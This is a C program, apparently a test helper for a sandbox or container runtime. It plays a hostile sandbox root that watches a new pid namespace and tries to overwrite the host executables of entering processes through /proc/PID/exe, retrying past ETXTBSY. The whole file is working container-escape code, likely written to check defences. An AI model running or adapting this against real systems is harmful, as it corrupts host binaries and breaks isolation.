/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * overwrite: the root of a sandbox, who wants to write to the program of
 * whoever enters, through /proc/PID/exe.
 *
 * To be started where children come into a new pid namespace. Prints `ready
 * PID`, of its child, as seen from outside, and writes to whatever runs there
 * from a file that is not of the sandbox's. Ends with standard input.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

/* For as long as it runs it is busy (ETXTBSY); so many tries are a while. */
enum { AHEAD = 4, TRIES = 200000 };

static void check(bool ok, const char *what)
{
	if (ok)
		return;
	fprintf(stderr, "overwrite: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void write_to(int fd)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < TRIES; i++) {
		int to = open(path, O_WRONLY | O_CLOEXEC);
		ssize_t n;

		if (to < 0 && errno == ETXTBSY)
			continue;
		if (to < 0)
			return;
		n = write(to, "owned", 5);
		(void)n;
		close(to);
		return;
	}
}

/* On whatever runs as @pid, if that is a file of the host's. */
static void attack(int pid, dev_t own)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && st.st_dev != own)
		write_to(fd);
	close(fd);
}

/* Pids are given in their order; the last one that was seen goes on. */
static void watch(dev_t own)
{
	int last = 1;

	for (;;) {
		for (int pid = last; pid <= last + AHEAD; pid++) {
			char path[32];

			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (pid > 1)
				attack(pid, own);
			if (access(path, F_OK) == 0)
				last = pid;
		}
	}
}

int main(void)
{
	struct stat root;
	int ends[2];
	char byte = 0;
	pid_t child;

	check(pipe(ends) == 0, "pipe");
	child = fork();
	check(child >= 0, "fork");
	if (child == 0) {
		check(prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0) == 0 &&
			      mount("proc", "/proc", "proc", 0, NULL) == 0 &&
			      stat("/", &root) == 0,
		      "start");
		check(write(ends[1], &byte, 1) == 1, "write");
		watch(root.st_dev);
	}
	close(ends[1]);
	check(read(ends[0], &byte, 1) == 1, "the child");
	printf("ready %d\n", (int)child);
	fflush(stdout);
	while (read(STDIN_FILENO, &byte, 1) > 0)
		;
	return 0;
}
